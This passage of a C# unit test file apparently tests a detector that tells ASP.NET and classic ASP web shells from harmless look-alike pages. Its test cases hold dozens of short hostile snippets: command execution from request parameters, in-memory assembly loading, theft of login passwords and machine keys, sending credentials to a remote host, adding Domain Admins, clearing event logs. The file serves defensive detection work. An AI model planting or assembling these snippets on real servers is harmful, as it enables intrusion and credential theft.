        "<script runat=server language=\"C#\">void Page_Load() { var a = Scanner.Open(\"amsi\"); }</script>")]
    [InlineData(".aspx", "<script runat=server language=\"C#\">void Page_Load() { var a = GetProc(Library(\"ntdll.dll\"), \"EtwEventWrite\"); }</script>",
        "<script runat=server language=\"C#\">void Page_Load() { provider.WriteEvent(1, \"Etw\"); }</script>")]
    [InlineData(".aspx", Cs + "<% dynamic k = ConfigurationManager.GetSection(\"system.web/machineKey\"); Response.Write(k.ValidationKey + k.DecryptionKey); %>",
        Cs + "<% dynamic k = ConfigurationManager.GetSection(\"system.web/pages\"); Response.Write(k.Theme); %>")]
    [InlineData(".aspx", Cs + "<% var s = new DirectorySearcher(" + Rq + "[\"f\"]); foreach (SearchResult r in s.FindAll()) Response.Write(r.Path); %>",
        Cs + "<% var s = new DirectorySearcher(\"(mail=\" + " + Rq + "[\"f\"] + \")\"); Response.Write(s.FindOne().Path); %>")]
    [InlineData(".asp", "<% set c = CreateObject(\"ADODB.Connection\") : c.Provider = \"ADsDSOObject\" : set r = c.Exec" + "ute(" + Rq + "(\"q\")) : for each f in r.Fields : Response.Write f.Value : next %>",
        "<% set c = CreateObject(\"ADODB.Connection\") : c.Provider = \"ADsDSOObject\" : set r = c.Exec" + "ute(\"select mail from x where cn=\" & " + Rq + "(\"q\")) : Response.Write r(0) %>")]
    [InlineData(".aspx", Cs + "<% var all = ConfigurationManager.ConnectionStrings; foreach (ConnectionStringSettings c in all) Response.Write(c.ConnectionString); %>",
        Cs + "<% foreach (ConnectionStringSettings c in ConfigurationManager.ConnectionStrings) list.Items.Add(c.Name); %>")]
    [InlineData(".aspx", Cs + "<% Response.Write(new StreamReader(@\"C:\\Windows\\machine.config\").ReadToEnd()); %>",
        Cs + "<% Response.Write(new StreamReader(news).ReadToEnd() + \"machine.config\"); %>")]
    [InlineData(".aspx", Cs + "<% AppDomain d = AppDomain.CurrentDomain; d.Load(Convert.FromBase64String(Kept(" + Rq + "[\"k\"]))).CreateInstance(\"K\"); %>",
        Cs + "<% var f = AppDomain.CurrentDomain.BaseDirectory; var b = Convert.FromBase64String(" + Rq + "[\"k\"]); doc.Load(f + name); Activator.CreateInstance(kind); %>")]
    [InlineData(".aspx", Cs + "<% Assembly a = Thread.GetDomain().Load(Convert.FromBase64String(Kept(" + Rq + "[\"k\"]))); a.CreateInstance(\"K\"); %>",
        Cs + "<% t.InvokeMember(\"Save\", BindingFlags.InvokeMethod, null, doc, null); var i = " + Rq + "[\"k\"] == null ? null : Convert.FromBase64String(" + Rq + "[\"k\"]); %>")]
    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { GetObject(c." + Rq + ".QueryString[\"name\"]); } }",
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { pictures.GetObject(c." + Rq + ".QueryString[\"name\"]); } }")]
    [InlineData(".vbhtml", "@Code\nProcess.Start(\"cmd.exe\", \"/c \" & " + Rq + "(\"c\"))\nEnd Code",
        "<p>write to process@example.com: Process.Start(\"cmd.exe\", \"/c \" & " + Rq + "(\"c\"))</p>")]
    [InlineData(".asax", "<script runat=server language=\"C#\">void Application_BeginRequest() { Keep(" + Rq + ".Form[\"pwd\"]); }</script>",
        "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".QueryString[\"pwd\"] == \"preview\") Show(); }</script>")]
    [InlineData(".aspx", Cs + "<% foreach (var p in Process.GetProcessesByName(" + Rq + "[\"p\"])) p.Kill(); %>",
        Cs + "<% foreach (var p in Process.GetProcessesByName(\"EXCEL\")) p.Kill(); Response.Write(" + Rq + "[\"p\"]); %>")]
    [InlineData(".aspx", Cs + "<% using (var s = EventLogSession.GlobalSession) s.ClearLog(log); %>",
        Cs + "<% void ClearLog() { File.WriteAllText(Server.MapPath(\"visits.txt\"), \"\"); } %>")]
    [InlineData(".aspx", Cs + "<% using (var c = new SqlConnection(text)) { var k = c.CreateCommand(); k.CommandText = " + Rq + "[\"sql\"]; grid.DataSource = k.ExecuteReader(); grid.DataBind(); } %>",
        Cs + "<% using (var c = new SqlConnection(text)) { var k = c.CreateCommand(); k.CommandType = CommandType.StoredProcedure; k.CommandText = " + Rq + "[\"report\"]; grid.DataSource = k.ExecuteReader(); grid.DataBind(); } %>")]
    [InlineData(".aspx", Cs + "<% foreach (ConnectionStringSettings c in ConfigurationManager.ConnectionStrings) Response.Write(c.ConnectionString); %>",
        Cs + "<% foreach (var c in ConfigurationManager.ConnectionStrings[\"Main\"].Name) Response.Write(c); %>")]
    [InlineData(".aspx", Cs + "<% using (var c = new SqlConnection(text)) { var k = c.CreateCommand(); k.CommandText = " + Rq + "[\"q\"]; grid.DataSource = k.ExecuteReader(); grid.DataBind(); } %>",
        Cs + "<% using (var c = new SqlConnection(text)) { var k = c.CreateCommand(); k.CommandText = \"select a from t where b=\" + " + Rq + "[\"q\"]; grid.DataSource = k.ExecuteReader(); grid.DataBind(); } %>")]
    [InlineData(".aspx", Cs + "<% var l = new TcpListener(IPAddress.Any, 8443); l.Start(); var s = l.AcceptSocket(); %>",
        Cs + "<% var l = new ChangeListener(folder, 8443); l.Start(); %>")]
    [InlineData(".aspx", Cs + "<% var l = new HttpListener(); l.Prefixes.Add(\"http://+:80/owa/a/\"); l.Start(); %>",
        Cs + "<% var l = new TraceListener(); l.Prefixes.Add(\"http://contoso.example/\"); l.Start(); %>")]
    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"advapi32\")] static extern bool CreateProcessAsUserW(int t, string a);</script>",
        "<script runat=server language=\"C#\">static extern bool CreateUserProfile(int t, string a);</script>")]
    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"advapi32\")] static extern bool ImpersonateNamedPipeClient(int t);</script>",
        "<script runat=server language=\"C#\">static extern bool LogonUser(string u);</script>")]
    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"advapi32\")] static extern bool DuplicateTokenEx(int t); [DllImport(\"advapi32\")] static extern bool CreateProcessWithTokenW(int t);</script>",
        "<script runat=server language=\"C#\">[DllImport(\"advapi32\")] static extern bool DuplicateToken(int t); [DllImport(\"advapi32\")] static extern bool RevertToSelf();</script>")]
    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"ntdll\")] static extern int NtCreateThreadEx(int t); [DllImport(\"ntdll\")] static extern int NtAllocateVirtualMemory(int t);</script>",
        "<script runat=server language=\"C#\">[DllImport(\"ntdll\")] static extern int NtQueryTimerResolution(int t);</script>")]
    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"ucrtbase\")] static extern int _popen(string c, string m); void Page_Load() { _popen(" + Rq + "[\"c\"], \"r\"); }</script>",
        "<script runat=server language=\"C#\">[DllImport(\"ucrtbase\")] static extern int _getpid(); void Page_Load() { list.popen(" + Rq + "[\"c\"], \"r\"); }</script>")]
    [InlineData(".aspx", "<script runat=server language=\"C#\">[DllImport(\"kernel32\")] static extern int LoadLibrary(string c); void Page_Load() { LoadLibrary(" + Rq + "[\"c\"]); }</script>",
        "<script runat=server language=\"C#\">[DllImport(\"kernel32\")] static extern int LoadLibrary(string c); void Page_Load() { LoadLibrary(\"zip32.dll\"); }</script>")]
    [InlineData(".aspx", Cs + "<% var m = MemoryMappedFile.CreateNew(null, n, MemoryMappedFileAccess.ReadWriteExecute); var b = Convert.FromBase64String(" + Rq + "[\"b\"]); %>",
        Cs + "<% var m = MemoryMappedFile.CreateNew(null, n, MemoryMappedFileAccess.ReadWrite); var b = Convert.FromBase64String(" + Rq + "[\"b\"]); %>")]
    [InlineData(".aspx", Cs + "<% var z = new GZipStream(new MemoryStream(Convert.FromBase64String(" + Rq + ".Form[\"z\"])), CompressionMode.Decompress); z.CopyTo(m); AppDomain.CurrentDomain.Load(m.ToArray()); %>",
        Cs + "<% var z = Convert.FromBase64String(" + Rq + ".Form[\"z\"]); var v = Assembly.Load(\"Site.Parts\").GetName().Version; %>")]
    [InlineData(".aspx", Cs + "<% dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(" + Rq + "[\"o\"])); o.Run(" + Rq + "[\"c\"]); %>",
        Cs + "<% dynamic o = Activator.CreateInstance(Type.GetTypeFromProgID(\"Site.Report\")); o.Run(" + Rq + "[\"c\"]); %>")]
    [InlineData(".asp", "<% set m = CreateObject(\"Microsoft.ApplicationHost.WritableAdminManager\") : m.CommitPath = " + Rq + "(\"p\") : m.CommitChanges %>",
        "<% set m = CreateObject(\"Microsoft.ApplicationHost.AdminManager\") : m.CommitPath = " + Rq + "(\"p\") : Response.Write m.GetAdminSection(s, t).Name %>")]
    [InlineData(".asp", "<% set v = GetObject(\"IIS://localhost/W3SVC/1/Root\").Create(\"IIsWebVirtualDir\", " + Rq + "(\"n\")) : v.Path = " + Rq + "(\"p\") : v.SetInfo %>",
        "<% set v = GetObject(\"IIS://localhost/W3SVC/1/Root\") : Response.Write v.Path & " + Rq + "(\"n\") %>")]
    [InlineData(".asp", "<% set s = CreateObject(\"Shell.Application\") : for each i in s.NameSpace(" + Rq + "(\"p\")).Items : Response.Write i.Path : next : s.NameSpace(" + Rq + "(\"d\")).CopyHere " + Rq + "(\"f\") %>",
        "<% set s = CreateObject(\"Shell.Application\") : for each i in s.NameSpace(folder).Items : Response.Write i.Path & " + Rq + "(\"p\") : next %>")]
    [InlineData(".asp", "<% set n = CreateObject(\"WScript.Network\") : n.MapNetworkDrive \"Z:\", " + Rq + "(\"s\"), False, " + Rq + "(\"u\"), " + Rq + "(\"w\") %>",
        "<% set n = CreateObject(\"WScript.Network\") : Response.Write n.ComputerName & " + Rq + "(\"s\") %>")]
    [InlineData(".aspx", Cs + "<% Response.Write(new RunspaceInvoke().Invoke(" + Rq + "[\"c\"]).Count); %>",
        Cs + "<% Response.Write(action.Invoke(" + Rq + "[\"c\"]).Count); %>")]
    [InlineData(".svc", "<%@ ServiceHost Language=\"C#\" Service=\"S\" %> class S { [OperationContract] public string Go(string c) { return Process.Start(c).ToString(); } }",
        "<%@ ServiceHost Language=\"C#\" Service=\"S\" %> class S { [OperationContract] public string Go(string c) { return Report.Start(c).ToString(); } }")]
    [InlineData(".cshtml", "@{ var f = " + Rq + ".Files[0]; f.SaveAs(" + Rq + "[\"p\"] + f.FileName); }",
        "@{ var f = " + Rq + ".Files[0]; f.SaveAs(Server.MapPath(\"~/up/\") + Guid.NewGuid() + \".jpg\"); }")]
    [InlineData(".cshtml", "@foreach (var f in Directory.EnumerateFileSystemEntries(" + Rq + "[\"d\"])) { <p>@f</p> } @System.IO.File.ReadAllText(" + Rq + "[\"f\"])",
        "@foreach (var f in Directory.EnumerateFileSystemEntries(root)) { <p>@f</p> } @System.IO.File.ReadAllText(news)")]
    [InlineData(".asax", "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Path.EndsWith(\"/auth.owa\")) File.AppendAllText(place, " + Rq + ".Form[\"username\"] + \":\" + " + Rq + ".Form[\"password\"]); }</script>",
        "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Path.EndsWith(\"/auth.owa\")) File.AppendAllText(place, DateTime.Now.ToString()); }</script>")]
    [InlineData(".asax", "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Form[\"password\"] != null) new WebClient().UploadString(far, " + Rq + ".Form[\"username\"] + " + Rq + ".Form[\"password\"]); }</script>",
        "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Form[\"language\"] != null) new WebClient().UploadString(far, " + Rq + ".Form[\"language\"]); }</script>")]
    [InlineData(".asax", "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Form[\"password\"] != null) Dns.GetHostEntry(Hex(" + Rq + ".Form[\"password\"]) + \".contoso.example\"); }</script>",
        "<script runat=server language=\"C#\">void Application_BeginRequest() { if (" + Rq + ".Form[\"culture\"] != null) Names.Find(\"password\"); }</script>")]
    [InlineData(".asax", "<script runat=server language=\"C#\">void Application_BeginRequest() { File.AppendAllText(place, " + Rq + ".Headers[\"Authorization\"]); }</script>",
        "<script runat=server language=\"C#\">void Application_BeginRequest() { Trace.Write(place, " + Rq + ".Headers[\"Accept-Language\"]); }</script>")]
    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { var w = (HttpWebRequest)WebRequest.Create(c." + Rq + ".Headers[\"X-To\"]); c." + Rq + ".InputStream.CopyTo(w.GetRequestStream()); w.GetResponse().GetResponseStream().CopyTo(c.Response.OutputStream); } }",
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { var w = (HttpWebRequest)WebRequest.Create(partner); c." + Rq + ".InputStream.CopyTo(w.GetRequestStream()); w.GetResponse().GetResponseStream().CopyTo(c.Response.OutputStream); } }")]
    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { c.AcceptWebSocketRequest(Go); } async Task Go(AspNetWebSocketContext s) { var k = new Socket(SocketType.Stream, ProtocolType.Tcp); await k.ConnectAsync(s.QueryString[\"h\"], 445); } }",
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { c.AcceptWebSocketRequest(Go); } async Task Go(AspNetWebSocketContext s) { await s.WebSocket.SendAsync(news, WebSocketMessageType.Text, true, t); } }")]
    [InlineData(".aspx", Cs + "<% var s = new ExchangeService(); s.UseDefaultCredentials = true; s.ImpersonatedUserId = new ImpersonatedUserId(ConnectingIdType.SmtpAddress, " + Rq + "[\"m\"]); s.FindItems(WellKnownFolderName.Inbox, v); %>",
        Cs + "<% var s = new ExchangeService(); s.ImpersonatedUserId = new ImpersonatedUserId(ConnectingIdType.SmtpAddress, \"rooms@contoso.example\"); s.FindItems(room, v); %>")]
    [InlineData(".aspx", Cs + "<% Response.Write(Microsoft.Win32.Registry.GetValue(" + Rq + "[\"k\"], " + Rq + "[\"n\"], null)); %>",
        Cs + "<% Response.Write(Microsoft.Win32.Registry.GetValue(place, \"Release\", " + Rq + "[\"n\"])); %>")]
    [InlineData(".aspx", Cs + "<% var c = new ManagementClass(\"Win32_ShadowCopy\"); c.InvokeMethod(\"Create\", new object[] { \"C:\\\\\", \"ClientAccessible\" }); %>",
        Cs + "<% var c = new ManagementClass(\"Win32_LogicalDisk\"); Response.Write(c.GetInstances().Count); %>")]
    [InlineData(".aspx", Cs + "<% ZipFile.CreateFromDirectory(" + Rq + "[\"d\"], t); Response.TransmitFile(t); %>",
        Cs + "<% ZipFile.CreateFromDirectory(reports, t); Response.TransmitFile(t); %>")]
    [InlineData(".aspx", "<%@ Page Language=\"VB\" %><% My.Computer.FileSystem.WriteAllText(" + Rq + "(\"p\"), " + Rq + "(\"d\"), False) %>",
        "<%@ Page Language=\"VB\" %><% Response.Write(My.Computer.FileSystem.ReadAllText(news) & " + Rq + "(\"p\")) %>")]
    [InlineData(".aspx", "<%@ Page Language=\"VB\" %><% FileOpen(1, " + Rq + "(\"p\"), OpenMode.Output) : PrintLine(1, " + Rq + "(\"d\")) : FileClose(1) %>",
        "<%@ Page Language=\"VB\" %><% FileOpen(1, counter, OpenMode.Output) : PrintLine(1, visits) : FileClose(1) : Response.Write(" + Rq + "(\"p\")) %>")]
    [InlineData(".aspx", Cs + "<% Python.CreateEngine().Execute(" + Rq + "[\"s\"]); %>",
        Cs + "<% Reports.CreateEngine().Execute(\"monthly\"); Response.Write(" + Rq + "[\"s\"]); %>")]
    [InlineData(".aspx", Cs + "<% new Jint.Engine(o => o.AllowClr()).Evaluate(" + Rq + "[\"s\"]); %>",
        Cs + "<% new Site.Engine().Evaluate(" + Rq + "[\"s\"]); %>")]
    [InlineData(".aspx", Cs + "<% var o = new ObjectDataProvider { ObjectType = Type.GetType(" + Rq + "[\"t\"]), MethodName = " + Rq + "[\"m\"] }; %>",
        Cs + "<% var o = new ObjectDataProvider { ObjectType = typeof(Site.Menu), MethodName = \"Items\" }; %>")]
    [InlineData(".aspx", Cs + "<% new XmlSerializer(Type.GetType(" + Rq + "[\"t\"])).Deserialize(new StringReader(" + Rq + "[\"x\"])); %>",
        Cs + "<% new XmlSerializer(typeof(Site.Order)).Deserialize(new StringReader(" + Rq + "[\"x\"])); %>")]
    [InlineData(".asp", "<% set o = GetObject(" + Rq + "(\"m\")) : o.Go %>",
        "<% set o = GetObject(\"WinNT://CORP/\" & " + Rq + "(\"m\")) : Response.Write o.FullName %>")]
    [InlineData(".asp", "<% set x = CreateObject(\"Excel.Application\") : x.DDEInitiate \"cmd\", " + Rq + "(\"c\") %>",
        "<% set x = CreateObject(\"Excel.Application\") : x.Workbooks.Open book : Response.Write " + Rq + "(\"c\") %>")]
    [InlineData(".asp", "<% set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\") : for each i in w.ExecQuery(" + Rq + "(\"q\")) : Response.Write i.GetObjectText_ : next %>",
        "<% set w = GetObject(\"winmgmts:\\\\.\\root\\cimv2\") : for each i in w.ExecQuery(\"select Name from Win32_Printer\") : Response.Write i.Name & " + Rq + "(\"q\") : next %>")]
    [InlineData(".aspx", Cs + "<% var p = Process.GetProcessesByName(" + Rq + "[\"n\"]); foreach (var x in p) x.Kill(); %>",
        Cs + "<% var p = Process.GetProcessesByName(\"w3wp\"); Response.Write(p.Length); %>")]
    [InlineData(".aspx", Cs + "<% var c = new ServiceController(" + Rq + "[\"s\"]); c.Stop(); %>",
        Cs + "<% var c = new ServiceController(\"Spooler\"); Response.Write(c.Status); %>")]
    [InlineData(".ashx", "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { using (var f = new FileStream(c." + Rq + "[\"p\"], FileMode.Append)) c." + Rq + ".InputStream.CopyTo(f); } }",
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %> class H { void P(HttpContext c) { using (var f = new FileStream(Names.Of(Guid.NewGuid()), FileMode.Append)) c." + Rq + ".InputStream.CopyTo(f); } }")]
    [InlineData(".aspx", Cs + "<% var d = new PrincipalContext(ContextType.Domain); var u = new UserPrincipal(d) { Name = n }; u.SetPassword(w); u.Save(); GroupPrincipal.FindByIdentity(d, \"Domain Admins\").Members.Add(u); %>",
        Cs + "<% var d = new PrincipalContext(ContextType.Domain); Response.Write(d.ValidateCredentials(" + Rq + "[\"u\"], word)); %>")]
    [InlineData(".aspx", Cs + "<% var s = new FileSecurity(); s.AddAccessRule(new FileSystemAccessRule(" + Rq + "[\"u\"], FileSystemRights.FullControl, AccessControlType.Allow)); File.SetAccessControl(" + Rq + "[\"p\"], s); %>",
        Cs + "<% var s = File.GetAccessControl(logo); Response.Write(s.GetOwner(kind)); %>")]
    [InlineData(".aspx", Cs + "<% BuildManager.CreateInstanceFromVirtualPath(" + Rq + "[\"p\"], typeof(object)); %>",
        Cs + "<% BuildManager.CreateInstanceFromVirtualPath(\"~/menu.ascx\", typeof(object)); %>")]
    public void Tool_IsToldFromItsLookAlike(string extension, string tool, string ordinary)
    {
        Assert.True(IsTool(tool), tool);
        Assert.False(IsTool(ordinary), ordinary);
        bool IsTool(string page) => Of(page, extension) is var traits && (traits.IsShellLike || traits.Marks.ReadsKeys);
    }

    private static PageTraits Of(string page, string extension) => PageTraits.Of(page, extension);
}
